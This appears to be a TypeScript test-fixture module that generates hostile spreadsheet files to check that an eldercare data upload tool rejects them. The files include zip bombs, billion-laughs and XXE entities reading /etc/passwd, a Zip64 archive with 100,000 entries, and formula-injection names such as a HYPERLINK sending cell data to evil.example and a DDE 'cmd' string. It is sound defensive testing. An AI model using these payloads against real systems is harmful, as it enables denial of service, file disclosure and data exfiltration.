// The hostile-file corpus (issue 9): every file is generated here, at test time, from a few
// lines of code, so nothing big is committed. Each case says what the contract expects of it:
// a file-level `not_xlsx` / `too_large`, errors at named cells, or a correct audit of a file
// that is merely odd. The same cases serve the CLI, `checkIsolated` and the web upload.
//
// Big files are built without ever holding their inflated content: parts are deflated chunk by
// chunk (each chunk ends with a sync flush, so the chunks concatenate into one valid deflate
// stream), and the zip writer takes the deflated bytes with their real size and CRC.
import { readFileSync } from 'node:fs';
import zlib from 'node:zlib';
import yauzl from 'yauzl';
import { projectPath } from '../../checks/paths.js';
import type { ErrorCode } from '../../server/workbook/problems.js';
import { makeZip, zeroBomb, type ZipEntryInput } from './zip.js';

// ---------------------------------------------------------------------------------------------
// Building blocks

/** A part deflated chunk by chunk: its deflated bytes, real size and CRC-32. */
export interface DeflatedPart {
  compressed: Buffer;
  size: number;
  crc: number;
}

/**
 * Deflates text or bytes given in chunks into one raw deflate stream. Each chunk is compressed on
 * its own and ends with a sync flush (byte-aligned, not final, no references before its start),
 * so the pieces concatenate; an empty final block ends the stream.
 */
export function deflateChunks(chunks: Iterable<string | Buffer>, level = 1): DeflatedPart {
  const pieces: Buffer[] = [];
  let size = 0;
  let crc = 0;
  for (const chunk of chunks) {
    const bytes = typeof chunk === 'string' ? Buffer.from(chunk, 'utf8') : chunk;
    size += bytes.length;
    crc = zlib.crc32(bytes, crc);
    pieces.push(zlib.deflateRawSync(bytes, { level, finishFlush: zlib.constants.Z_SYNC_FLUSH }));
  }
  pieces.push(zlib.deflateRawSync(Buffer.alloc(0)));
  return { compressed: Buffer.concat(pieces), size, crc: crc >>> 0 };
}

/** A zip entry from a deflated part; `declaredSize` lies about its size when given. */
export function deflatedEntry(name: string, part: DeflatedPart, declaredSize = part.size): ZipEntryInput {
  return { name, compressed: part.compressed, declaredSize, crc: part.crc };
}

const XML_ESCAPES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' };
export const xmlText = (text: string) => text.replace(/[&<>"]/g, (char) => XML_ESCAPES[char]!);

/** `A` for 1. */
function letter(column: number): string {
  let text = '';
  for (let n = column; n > 0; n = Math.floor((n - 1) / 26)) text = String.fromCharCode(65 + ((n - 1) % 26)) + text;
  return text;
}

export type Cell = string | number | null | { formula: string; cached?: string } | { xml: string };

/** One `<row>` with inline strings and numbers, each cell with its reference, as Excel writes. */
export function rowXml(row: number, cells: Cell[]): string {
  const parts = cells.map((cell, index) => {
    const ref = `${letter(index + 1)}${row}`;
    if (cell === null) return '';
    if (typeof cell === 'number') return `<c r="${ref}"><v>${cell}</v></c>`;
    if (typeof cell === 'string') return `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${xmlText(cell)}</t></is></c>`;
    if ('xml' in cell) return `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${cell.xml}</t></is></c>`;
    return `<c r="${ref}"><f>${xmlText(cell.formula)}</f>${cell.cached === undefined ? '' : `<v>${cell.cached}</v>`}</c>`;
  });
  return `<row r="${row}">${parts.join('')}</row>`;
}

export const SHEET_HEAD =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">';

/** A worksheet part from its rows (header row first, rows numbered from 1). */
export function sheetXml(rows: Cell[][], before = ''): string {
  return `${SHEET_HEAD}${before}<sheetData>${rows.map((cells, index) => rowXml(index + 1, cells)).join('')}</sheetData></worksheet>`;
}

export interface SheetPart {
  name: string;
  /** The worksheet XML, or the part already deflated (big sheets). */
  xml: string | ZipEntryInput;
}

/**
 * An .xlsx from worksheet parts: content types, relationships, the workbook, optional shared
 * strings, and `extra` entries appended as they are.
 */
export function xlsx(sheets: SheetPart[], options: { sharedStrings?: string | ZipEntryInput; extra?: ZipEntryInput[] } = {}): Buffer {
  const ns = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const overrides = sheets
    .map((_, i) => `<Override PartName="/xl/worksheets/sheet${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`)
    .join('');
  const entries: ZipEntryInput[] = [
    {
      name: '[Content_Types].xml',
      data:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
        `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>${overrides}` +
        (options.sharedStrings !== undefined ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' : '') +
        '</Types>',
    },
    {
      name: '_rels/.rels',
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: 'xl/workbook.xml',
      data:
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${ns}"><sheets>` +
        sheets.map((sheet, i) => `<sheet name="${xmlText(sheet.name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('') +
        '</sheets></workbook>',
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        sheets.map((_, i) => `<Relationship Id="rId${i + 1}" Type="${ns}/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`).join('') +
        (options.sharedStrings !== undefined ? `<Relationship Id="rIdSst" Type="${ns}/sharedStrings" Target="sharedStrings.xml"/>` : '') +
        '</Relationships>',
    },
    ...sheets.map((sheet, i): ZipEntryInput => {
      const name = `xl/worksheets/sheet${i + 1}.xml`;
      return typeof sheet.xml === 'string' ? { name, data: sheet.xml } : { ...sheet.xml, name };
    }),
  ];
  if (options.sharedStrings !== undefined) {
    const name = 'xl/sharedStrings.xml';
    entries.push(typeof options.sharedStrings === 'string' ? { name, data: options.sharedStrings } : { ...options.sharedStrings, name });
  }
  entries.push(...(options.extra ?? []));
  return makeZip(entries);
}

export const SST_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">';

/** The entries of a zip, inflated (for the samples, which are small). */
export async function unzip(bytes: Buffer): Promise<{ name: string; data: Buffer }[]> {
  const zip = await new Promise<yauzl.ZipFile>((resolve, reject) =>
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (error, file) => (error ? reject(error) : resolve(file))),
  );
  const entries: { name: string; data: Buffer }[] = [];
  await new Promise<void>((resolve, reject) => {
    zip.on('entry', (entry: yauzl.Entry) => {
      zip.openReadStream(entry, (error, stream) => {
        if (error) return reject(error);
        const chunks: Buffer[] = [];
        stream.on('data', (chunk: Buffer) => chunks.push(chunk));
        stream.on('error', reject);
        stream.on('end', () => {
          entries.push({ name: entry.fileName, data: Buffer.concat(chunks) });
          zip.readEntry();
        });
      });
    });
    zip.on('end', () => resolve());
    zip.on('error', reject);
    zip.readEntry();
  });
  return entries;
}

/** A committed sample workbook's bytes. */
export const sampleBytes = (name: string) => readFileSync(projectPath('samples', name));

/** A sample with some of its parts' text changed, re-zipped with correct CRCs. */
export async function editSample(sample: string, edit: (name: string, text: string) => string): Promise<Buffer> {
  const entries = await unzip(sampleBytes(sample));
  return makeZip(entries.map(({ name, data }) => ({ name, data: name.endsWith('.xml') ? edit(name, data.toString('utf8')) : data })));
}

// ---------------------------------------------------------------------------------------------
// An OLE compound file (the container of .xls and of encrypted .xlsx), version 3: header, one
// FAT sector, one directory sector, then each stream in whole 512-byte sectors (every stream is
// padded to 4,096 bytes, the mini-stream cutoff, so no mini stream is needed).

const FREESECT = 0xffffffff;
const ENDOFCHAIN = 0xfffffffe;
const FATSECT = 0xfffffffd;
const NOSTREAM = 0xffffffff;

export function compoundFile(streams: { name: string; data: Buffer }[]): Buffer {
  if (streams.length > 3) throw new Error('compoundFile: at most three streams');
  const sector = 512;
  const bodies = streams.map(({ data }) => {
    const size = Math.max(4096, Math.ceil(data.length / sector) * sector);
    const body = Buffer.alloc(size);
    data.copy(body);
    return body;
  });
  const header = Buffer.alloc(sector);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header, 0);
  header.writeUInt16LE(0x003e, 24); // minor version
  header.writeUInt16LE(0x0003, 26); // major version 3
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // 512-byte sectors
  header.writeUInt16LE(6, 32); // 64-byte mini sectors
  header.writeUInt32LE(1, 44); // FAT sectors
  header.writeUInt32LE(1, 48); // first directory sector
  header.writeUInt32LE(4096, 56); // mini stream cutoff
  header.writeUInt32LE(ENDOFCHAIN, 60); // no mini FAT
  header.writeUInt32LE(ENDOFCHAIN, 68); // no DIFAT sectors
  header.writeUInt32LE(0, 76); // DIFAT[0]: the FAT is sector 0
  for (let i = 1; i < 109; i++) header.writeUInt32LE(FREESECT, 76 + i * 4);

  const fat = Buffer.alloc(sector, 0xff);
  fat.writeUInt32LE(FATSECT, 0);
  fat.writeUInt32LE(ENDOFCHAIN, 4);
  const starts: number[] = [];
  let next = 2;
  for (const body of bodies) {
    const count = body.length / sector;
    starts.push(next);
    for (let i = 0; i < count; i++) fat.writeUInt32LE(i === count - 1 ? ENDOFCHAIN : next + i + 1, (next + i) * 4);
    next += count;
  }
  if (next > sector / 4) throw new Error('compoundFile: streams too big for one FAT sector');

  const directory = Buffer.alloc(sector);
  const entry = (index: number, name: string, type: number, child: number, right: number, start: number, size: number) => {
    const at = index * 128;
    const encoded = Buffer.from(`${name}\0`, 'utf16le');
    encoded.copy(directory, at);
    directory.writeUInt16LE(encoded.length, at + 64);
    directory.writeUInt8(type, at + 66);
    directory.writeUInt8(1, at + 67); // black
    directory.writeUInt32LE(NOSTREAM, at + 68); // left sibling
    directory.writeUInt32LE(right, at + 72);
    directory.writeUInt32LE(child, at + 76);
    directory.writeUInt32LE(start, at + 116);
    directory.writeUInt32LE(size, at + 120);
  };
  // Siblings hang to the right in the order the directory compares names: shorter first.
  const order = streams.map((stream, index) => ({ ...stream, index })).sort((a, b) => a.name.length - b.name.length || a.name.toUpperCase().localeCompare(b.name.toUpperCase()));
  entry(0, 'Root Entry', 5, order.length ? 1 : NOSTREAM, NOSTREAM, ENDOFCHAIN, 0);
  order.forEach((stream, position) => {
    entry(position + 1, stream.name, 2, NOSTREAM, position + 1 < order.length ? position + 2 : NOSTREAM, starts[stream.index]!, stream.data.length);
  });
  for (let i = order.length + 1; i < 4; i++) {
    directory.writeUInt32LE(NOSTREAM, i * 128 + 68);
    directory.writeUInt32LE(NOSTREAM, i * 128 + 72);
    directory.writeUInt32LE(NOSTREAM, i * 128 + 76);
  }
  return Buffer.concat([header, fat, directory, ...bodies]);
}

/** A compound file with a workbook stream whose FAT chain loops back on itself. */
export function fatLoop(): Buffer {
  const file = compoundFile([{ name: 'Workbook', data: Buffer.alloc(8192, 0x01) }]);
  // The stream starts at sector 2; its last sector points back to its first.
  file.writeUInt32LE(2, 512 + (2 + 8192 / 512 - 1) * 4);
  return file;
}

/** A 4 KiB compound file that claims a quarter of a billion FAT sectors. */
export function absurdSectorCounts(): Buffer {
  const file = compoundFile([{ name: 'Workbook', data: Buffer.alloc(4096, 0x01) }]);
  file.writeUInt32LE(0x0fffffff, 44);
  file.writeUInt32LE(0x0fffffff, 72);
  return file;
}

/** An .ods whose content.xml inflates to 2 GiB of zeros. */
export function odsBomb(): Buffer {
  const bomb = zeroBomb(2048);
  return makeZip([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', method: 'store' },
    { name: 'META-INF/manifest.xml', data: '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>' },
    { name: 'content.xml', compressed: bomb.compressed, declaredSize: bomb.size, crc: bomb.crc },
  ]);
}

const ODS_NS = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"';

/** A valid one-facility .ods, but for a DTD (an entity, as billion-laughs attacks declare) in `part`, which the reader never parses. */
export function odsWithDtd(part: 'styles.xml' | 'meta.xml' | 'settings.xml' | 'META-INF/manifest.xml'): Buffer {
  const row = (values: (string | number)[]) =>
    `<table:table-row>${values.map((v) => (typeof v === 'number' ? `<table:table-cell office:value-type="float" office:value="${v}"><text:p>${v}</text:p></table:table-cell>` : `<table:table-cell office:value-type="string"><text:p>${v}</text:p></table:table-cell>`)).join('')}</table:table-row>`;
  const content = `<?xml version="1.0" encoding="UTF-8"?><office:document-content ${ODS_NS}><office:body><office:spreadsheet><table:table table:name="机构">${row(['机构编号', '机构名称', '所属地区', '机构类型', '运营性质', '床位总数'])}${row(['TX-001', '梧桐街道颐养院', '桐乡市', '养老机构', '公办', 130])}</table:table></office:spreadsheet></office:body></office:document-content>`;
  const parts: Record<string, string> = {
    'META-INF/manifest.xml': '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
    'styles.xml': `<?xml version="1.0" encoding="UTF-8"?><office:document-styles ${ODS_NS}/>`,
    'meta.xml': `<?xml version="1.0" encoding="UTF-8"?><office:document-meta ${ODS_NS}/>`,
    'settings.xml': `<?xml version="1.0" encoding="UTF-8"?><office:document-settings ${ODS_NS}/>`,
  };
  parts[part] = parts[part]!.replace(/^(<\?xml[^>]*\?>)/, (declaration) => `${declaration}<!DOCTYPE x [<!ENTITY lol "lol">]>`);
  return makeZip([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', method: 'store' },
    ...Object.entries(parts).map(([name, data]) => ({ name, data })),
    { name: 'content.xml', data: content },
  ]);
}

/** A staff CSV of a header and `rows` short lines (10 bytes each). */
export function csvLines(rows: number): Buffer {
  return Buffer.from(`人员编号,机构编号,岗位\n${'S,F,other\n'.repeat(rows)}`, 'utf8');
}

/** A CSV whose second data line was pasted in from a GBK file. */
export function mixedEncodings(): Buffer {
  return Buffer.concat([
    Buffer.from('机构编号,机构名称,所属地区,机构类型,运营性质,床位总数\nTX-001,梧桐街道颐养院,桐乡市,养老机构,公办,130\n', 'utf8'),
    Buffer.from('TX-002,', 'utf8'),
    Buffer.from('b0b2bcaac7f8', 'hex'), // 安吉区 in GBK
    Buffer.from(',桐乡市,养老机构,公办,80\n', 'utf8'),
  ]);
}

// ---------------------------------------------------------------------------------------------
// Other formats

/** A 1×1 PNG, chunks and CRCs as they should be. */
export function png(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body) >>> 0);
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]); // 1×1, 8-bit RGB
  const pixels = zlib.deflateSync(Buffer.from([0, 0x2e, 0x7d, 0x32])); // filter 0, one green pixel
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', ihdr), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

/** A one-page PDF with a correct cross-reference table. */
export function pdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    '<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 770 Td (eldercare) Tj ET\nendstream',
  ];
  let text = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/**
 * A zip of `count` tiny entries (plus the parts of a workbook) with Zip64 end records, since a
 * plain zip counts at most 65,535 entries.
 */
export function manyEntries(count: number): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  const data = Buffer.from('x');
  const crc = zlib.crc32(data) >>> 0;
  const add = (name: string, content: Buffer, contentCrc: number) => {
    const nameBytes = Buffer.from(name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(0, 8); // stored
    local.writeUInt32LE(contentCrc, 14);
    local.writeUInt32LE(content.length, 18);
    local.writeUInt32LE(content.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    locals.push(local, nameBytes, content);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(45, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt32LE(contentCrc, 16);
    central.writeUInt32LE(content.length, 20);
    central.writeUInt32LE(content.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + content.length;
  };
  for (const part of ['[Content_Types].xml', 'xl/workbook.xml']) {
    const content = Buffer.from('<x/>');
    add(part, content, zlib.crc32(content) >>> 0);
  }
  for (let i = 2; i < count; i++) add(`xl/media/i${i}.png`, data, crc);
  const directory = Buffer.concat(centrals);
  const zip64End = Buffer.alloc(56);
  zip64End.writeUInt32LE(0x06064b50, 0);
  zip64End.writeBigUInt64LE(44n, 4); // size of the rest of this record
  zip64End.writeUInt16LE(45, 12);
  zip64End.writeUInt16LE(45, 14);
  zip64End.writeBigUInt64LE(BigInt(count), 24);
  zip64End.writeBigUInt64LE(BigInt(count), 32);
  zip64End.writeBigUInt64LE(BigInt(directory.length), 40);
  zip64End.writeBigUInt64LE(BigInt(offset), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(offset + directory.length), 8);
  locator.writeUInt32LE(1, 16);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(0xffff, 8);
  end.writeUInt16LE(0xffff, 10);
  end.writeUInt32LE(0xffffffff, 12);
  end.writeUInt32LE(0xffffffff, 16);
  return Buffer.concat([...locals, directory, zip64End, locator, end]);
}

// ---------------------------------------------------------------------------------------------
// The cases

export type HostileExpectation =
  /** Rejected as a whole with this code; both messages match. */
  | { kind: 'file_error'; code: 'not_xlsx' | 'too_large'; zh: RegExp; en: RegExp }
  /** Rejected with exactly these errors at these cells. */
  | { kind: 'cell_errors'; errors: { code: ErrorCode; cell: string }[] }
  /** A valid audit. */
  | { kind: 'valid' };

/** Rejected with `code` at each of `cells`. */
const errorsAt = (code: ErrorCode, cells: string[]): HostileExpectation => ({ kind: 'cell_errors', errors: cells.map((cell) => ({ code, cell })) });

export interface HostileCase {
  id: string;
  /** What the file is, for the report. */
  title: string;
  /** The name it is uploaded under. */
  fileName: string;
  build(): Buffer | Promise<Buffer>;
  expected: HostileExpectation;
}

/** The header of the facilities sheet the odd-but-valid cases use. */
export const FACILITY_HEADER = ['机构编号', '机构名称', '所属地区', '机构类型', '运营性质', '星级', '床位总数', '护理型床位数'];
export const STAFF_HEADER = ['人员编号', '机构编号', '岗位', '护理员职业技能等级'];

/** A small valid workbook (facilities and staff) whose facility names are `names`. */
export function namedFacilities(names: readonly string[], staffIds: readonly string[] = []): Buffer {
  const facilities: Cell[][] = [FACILITY_HEADER, ...names.map((name, i): Cell[] => [`TX-${String(i + 1).padStart(3, '0')}`, name, '桐乡市', '养老机构', '公办', 3, 100 + i * 10, 60])];
  const staff: Cell[][] = [
    STAFF_HEADER,
    ...staffIds.map((id, i): Cell[] => [id, `TX-${String((i % names.length) + 1).padStart(3, '0')}`, i % 3 === 0 ? '社会工作者' : '养老护理员', i % 3 === 0 ? null : '高级']),
  ];
  return xlsx([
    { name: '机构', xml: sheetXml(facilities) },
    ...(staffIds.length ? [{ name: '人员', xml: sheetXml(staff) }] : []),
  ]);
}

export const RTL_EMOJI_NAMES = [
  'دار رعاية المسنين 梧桐',
  'בית אבות 崇福',
  '👵👴 幸福家园 🏡',
  '👨‍👩‍👧‍👦 家庭照护站 🇨🇳',
  '𠀀𪚥 濮院敬老院',
];

export const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '+86 573 8888 0000 养老院', '-1+1 护理院', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', '\t=1+1 颐养院'];

/**
 * `_xHHHH_` is how Excel writes a character XML cannot hold (ECMA-376 ST_Xstring): BEL, ESC
 * (a terminal's colour sequence), NUL, then a raw C1 CSI; the last two are line breaks (CR LF as
 * Excel escapes them, NEL raw), which read as a space, and `_x005F_` is a literal underscore.
 */
export const CONTROL_NAMES_XML = ['梧桐_x0007_颐养院', '崇福_x001B_[31m敬老院_x001B_[0m', '乌镇_x0000_护理院', '濮院颐养院\u009b', '屠甸_x000D__x000A_养老院', '石门\u0085敬老院_x005F_x0007_'];

/** Names a person wraps over lines in a cell (Alt+Enter): each break reads as a space. */
export const WRAPPED_NAMES = ['梧桐街道\n颐养院', '崇福镇\r\n敬老院', 'Wutong \n Care Home', '乌镇\u2028护理院'];

const SAMPLE = 'tongxiang.xlsx';

/** Rows of the million-row staff sheet: shared strings, numeric staff ids, as Excel writes. */
function* millionStaffRows(rows: number): Generator<string> {
  yield `${SHEET_HEAD}<dimension ref="A1:C${rows + 1}"/><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c></row>`;
  const batch = 10_000;
  for (let start = 2; start <= rows + 1; start += batch) {
    const parts: string[] = [];
    for (let r = start; r < Math.min(start + batch, rows + 2); r++) {
      parts.push(`<row r="${r}"><c r="A${r}"><v>${100000 + r}</v></c><c r="B${r}" t="s"><v>3</v></c><c r="C${r}" t="s"><v>4</v></c></row>`);
    }
    yield parts.join('');
  }
  yield '</sheetData></worksheet>';
}

/** Styled empty rows (`<row r="n" s="1" customFormat="1"/>`) after the data, to the last row. */
function* styledBlankRows(head: string, tail: string, from: number): Generator<string> {
  yield head;
  const batch = 20_000;
  for (let start = from; start <= 1_048_576; start += batch) {
    const parts: string[] = [];
    for (let r = start; r < Math.min(start + batch, 1_048_577); r++) parts.push(`<row r="${r}" spans="1:13" s="1" customFormat="1"><c r="A${r}" s="1"/></row>`);
    yield parts.join('');
  }
  yield tail;
}

/** `count` distinct shared strings, about 40 bytes each, in chunks of 1 MiB or so. */
function* sharedStrings(count: number): Generator<string> {
  yield `${SST_HEAD.replace('<sst ', `<sst count="${count}" uniqueCount="${count}" `)}`;
  const batch = 20_000;
  for (let start = 0; start < count; start += batch) {
    const parts: string[] = [];
    for (let i = start; i < Math.min(start + batch, count); i++) parts.push(`<si><t>梧桐街道第${i}号站点</t></si>`);
    yield parts.join('');
  }
  yield '</sst>';
}

const MINIMAL_SHEET = sheetXml([FACILITY_HEADER, ['TX-001', '梧桐街道颐养院', '桐乡市', '养老机构', '公办', 3, 130, 60]]);

/** A worksheet part whose text holds `bytes` that are not UTF-8, where a name should be. */
function sheetWithBytes(bytes: number[]): Buffer {
  const [head, tail] = MINIMAL_SHEET.split('梧桐街道颐养院') as [string, string];
  return Buffer.concat([Buffer.from(`${head}梧桐`), Buffer.from(bytes), Buffer.from(`颐养院${tail}`)]);
}

/** The Tongxiang sample with a DTD (an entity, as billion-laughs attacks declare) in `part`. */
const withDtd = (part: string) =>
  editSample(SAMPLE, (name, text) => (name === part ? text.replace(/^(<\?xml[^>]*\?>)?/, (declaration) => `${declaration}<!DOCTYPE x [<!ENTITY lol "lol">]>`) : text));

export const LONG_CELL = 32_767;

/** Every case of the corpus, in the order of issue 9. */
export const HOSTILE_CASES: HostileCase[] = [
  {
    id: 'zip-bomb',
    title: 'zip bomb: 2 GiB of zeros in a 2 MB sheet part, sizes declared honestly',
    fileName: 'bomb.xlsx',
    build() {
      const bomb = zeroBomb(2048);
      return xlsx([{ name: '机构', xml: { name: '', compressed: bomb.compressed, declaredSize: bomb.size, crc: bomb.crc } }]);
    },
    expected: { kind: 'file_error', code: 'too_large', zh: /解压后的数据量至少为 2048 MB/, en: /expands to at least 2048 MB/ },
  },
  {
    id: 'zip-bomb-lying',
    title: 'zip bomb: 2 GiB of zeros declared as 1 KB',
    fileName: 'bomb-lying.xlsx',
    build() {
      const bomb = zeroBomb(2048);
      return xlsx([{ name: '机构', xml: { name: '', compressed: bomb.compressed, declaredSize: 1024, crc: bomb.crc } }]);
    },
    expected: { kind: 'file_error', code: 'too_large', zh: /压缩炸弹/, en: /zip bomb/ },
  },
  {
    id: 'many-entries',
    title: 'zip of 100,000 entries (Zip64)',
    fileName: 'entries.xlsx',
    build: () => manyEntries(100_000),
    expected: { kind: 'file_error', code: 'too_large', zh: /100000 个压缩条目/, en: /100000 archive entries/ },
  },
  {
    id: 'huge-shared-strings',
    title: 'sharedStrings part of 1.2 million distinct strings (≈50 MB) in a small file, sizes honest',
    fileName: 'strings.xlsx',
    build: () => xlsx([{ name: '机构', xml: MINIMAL_SHEET }], { sharedStrings: deflatedEntry('', deflateChunks(sharedStrings(1_200_000), 9)) }),
    expected: { kind: 'file_error', code: 'too_large', zh: /sharedStrings\.xml/, en: /sharedStrings\.xml/ },
  },
  {
    id: 'huge-shared-strings-lying',
    title: 'the same sharedStrings part declared as 100 KB',
    fileName: 'strings-lying.xlsx',
    build: () => xlsx([{ name: '机构', xml: MINIMAL_SHEET }], { sharedStrings: deflatedEntry('', deflateChunks(sharedStrings(1_200_000), 9), 100 * 1024) }),
    expected: { kind: 'file_error', code: 'too_large', zh: /sharedStrings\.xml/, en: /sharedStrings\.xml/ },
  },
  {
    id: 'billion-laughs',
    title: 'XML entity expansion ("billion laughs") in a sheet',
    fileName: 'laughs.xlsx',
    build() {
      const entities = ['<!ENTITY lol "lol">'];
      for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
      const xml = MINIMAL_SHEET.replace('<worksheet', `<!DOCTYPE worksheet [${entities.join('')}]><worksheet`).replace('梧桐街道颐养院', '&lol9;');
      return xlsx([{ name: '机构', xml }]);
    },
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /DTD/, en: /DTD/ },
  },
  {
    id: 'xxe',
    title: 'external entity (XXE) reading /etc/passwd in a sheet',
    fileName: 'xxe.xlsx',
    build() {
      const xml = MINIMAL_SHEET.replace('<worksheet', '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet').replace('梧桐街道颐养院', '&xxe;');
      return xlsx([{ name: '机构', xml }]);
    },
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /DTD/, en: /DTD/ },
  },
  {
    id: 'xxe-shared-strings',
    title: 'external parameter entity (XXE) in sharedStrings',
    fileName: 'xxe-sst.xlsx',
    build() {
      const sst = `<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd">%remote;]>${SST_HEAD.replace(/^.*\n/, '')}<si><t>x</t></si></sst>`;
      return xlsx([{ name: '机构', xml: MINIMAL_SHEET }], { sharedStrings: sst });
    },
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /DTD/, en: /DTD/ },
  },
  {
    id: 'truncated',
    title: 'a sample cut at 60 %',
    fileName: 'truncated.xlsx',
    build: () => {
      const bytes = sampleBytes(SAMPLE);
      return bytes.subarray(0, Math.floor(bytes.length * 0.6));
    },
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /损坏或不完整/, en: /damaged or incomplete/ },
  },
  {
    id: 'wrong-crc',
    title: 'a sample whose sheet carries a wrong CRC-32',
    fileName: 'crc.xlsx',
    async build() {
      const entries = await unzip(sampleBytes(SAMPLE));
      return makeZip(entries.map(({ name, data }) => ({ name, data, ...(name === 'xl/worksheets/sheet1.xml' ? { crc: zlib.crc32(data) ^ 0x5a5a } : {}) })));
    },
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /CRC-32/, en: /CRC-32/ },
  },
  {
    id: 'encrypted',
    title: 'a password-protected workbook (OLE compound file with EncryptionInfo and EncryptedPackage)',
    fileName: '加密.xlsx',
    build: () =>
      compoundFile([
        { name: 'EncryptionInfo', data: Buffer.concat([Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]), Buffer.from('<?xml version="1.0"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>')]) },
        { name: 'EncryptedPackage', data: Buffer.alloc(8192, 0x5c) },
      ]),
